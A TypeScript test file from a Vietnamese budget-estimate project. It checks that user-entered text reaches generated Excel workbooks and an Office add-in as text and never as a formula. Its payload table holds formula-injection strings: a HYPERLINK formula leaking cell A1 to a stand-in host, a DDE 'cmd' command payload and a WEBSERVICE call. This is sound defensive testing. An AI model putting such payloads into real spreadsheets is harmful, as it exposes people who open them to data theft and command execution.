// Formula injection (chèn công thức): text users type — agency names, signers, descriptions, notes, VAT bases —
// must land in cells as text, never as formulas: in the workbook exceljs writes (checked in the package XML and
// after LibreOffice recalculates it) and in the add-in (its own Office.js guard must cover every formula start
// core's neutralizeFormulaText knows).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { builtinBooks, computeEstimate, isFormulaLike, loadPriceBook, neutralizeFormulaText, type EstimateInputJson } from '@dutoan/core';
import { writeEstimateWorkbook } from '@dutoan/xlsx';
import { needsTextMark, protectText } from '../packages/excel-addin/src/office/sanitize.ts';
import { unzip } from './support/zip-builder.ts';
import { convertBatch, skipMessage, sofficeForTests } from './support/libreoffice.ts';

const PAYLOADS = {
  agency: '=HYPERLINK("http://x.invalid/?d="&A1,"UBND XÃ BẢO HÀ")',
  parentBody: '+1+41',
  preparer: '@SUM(1+41)',
  accountant: '-1+43',
  head: '=cmd|\' /C calc\'!A0',
  description: '=1+41',
  note: '\t=1+41',
  basis: '=WEBSERVICE("http://x.invalid")',
};
const MARKERS = ['HYPERLINK', 'cmd|', 'WEBSERVICE', '1+41', '1+43'];

function hostileInput(): EstimateInputJson {
  const input = JSON.parse(readFileSync(new URL('../examples/xa-bao-ha.json', import.meta.url), 'utf8')) as EstimateInputJson;
  input.header.agency = PAYLOADS.agency;
  input.header.parentBody = PAYLOADS.parentBody;
  input.header.signers = { preparer: PAYLOADS.preparer, accountant: PAYLOADS.accountant, head: PAYLOADS.head };
  const line = input.sections[1]!.lines![0]! as { description?: string; note?: string };
  line.description = PAYLOADS.description;
  line.note = PAYLOADS.note;
  input.sections[1]!.vat.basis = PAYLOADS.basis;
  return input;
}

const book = loadPriceBook(builtinBooks['mau-2026']!);
const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

/** Every cell of every sheet, as exceljs reads it back. */
async function cells(bytes: Uint8Array): Promise<Array<{ where: string; value: ExcelJS.CellValue; formula: string | undefined }>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const out: Array<{ where: string; value: ExcelJS.CellValue; formula: string | undefined }> = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => void out.push({ where: `${ws.name}!${c.address}`, value: c.value, formula: c.formula }))));
  return out;
}

describe('formula injection', () => {
  it('the standard workbook stores user text as text: no formula in the package carries it', async () => {
    const estimate = computeEstimate(hostileInput(), book);
    const bytes = await writeEstimateWorkbook(estimate);
    const xmlFormulas = unzip(bytes)
      .filter((p) => p.name.endsWith('.xml'))
      .flatMap((p) => [...new TextDecoder().decode(p.data).matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map((m) => m[1]!));
    expect(xmlFormulas.length).toBeGreaterThan(0); // the workbook does have its own live formulas
    for (const f of xmlFormulas) for (const m of MARKERS) expect(f, `formula ${f}`).not.toContain(m);

    const all = await cells(bytes);
    const texts = all.filter((c) => typeof c.value === 'string').map((c) => c.value as string);
    // Each payload is somewhere as a plain string (possibly inside a longer text, e.g. "Ông/bà …").
    for (const [field, p] of Object.entries(PAYLOADS)) {
      const needle = p.replace(/^\t/, '');
      expect(texts.some((t) => t.includes(needle)), field).toBe(true);
    }
    for (const c of all) if (c.formula) for (const m of MARKERS) expect(c.formula, c.where).not.toContain(m);
  });

  it('LibreOffice, recalculating every formula on load, keeps the user text as text', async () => {
    const exe = sofficeForTests();
    if (!exe) return console.warn(skipMessage);
    const dir = mkdtempSync(join(tmpdir(), 'dutoan-inject-'));
    dirs.push(dir);
    const file = join(dir, 'tiem-cong-thuc.xlsx');
    writeFileSync(file, await writeEstimateWorkbook(computeEstimate(hostileInput(), book)));
    const r = await convertBatch(exe, [file], join(dir, 'out'), { to: 'xlsx', recalc: true });
    const out = r.outputs.get(file);
    expect(out, r.log).toBeTruthy();
    const after = await cells(new Uint8Array(readFileSync(out!)));
    const texts = after.filter((c) => typeof c.value === 'string').map((c) => c.value as string);
    expect(texts.some((t) => t.includes(PAYLOADS.agency))).toBe(true);
    expect(texts.some((t) => t.includes(PAYLOADS.description))).toBe(true);
    // "=1+41" evaluated would be 42 somewhere in a text column; no formula mentions the payloads.
    for (const c of after) if (c.formula) for (const m of MARKERS) expect(c.formula, c.where).not.toContain(m);
    for (const c of after) expect(c.value === 42 || c.value === 42.0, c.where).toBe(false);
  }, 180_000);

  it('the add-in’s Office.js guard marks as text everything core calls formula-like', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...Object.values(PAYLOADS), '＝1+1', '－5', '\r@A1')), (s) => {
        if (isFormulaLike(s)) {
          expect(needsTextMark(s)).toBe(true);
          // Both put exactly one apostrophe in front; Excel stores the text after it unchanged.
          expect(protectText(s)).toBe(`'${s}`);
          expect(neutralizeFormulaText(s)).toBe(`'${s.normalize('NFC')}`);
        }
      }),
      { numRuns: 500, seed: 11 },
    );
  });
});
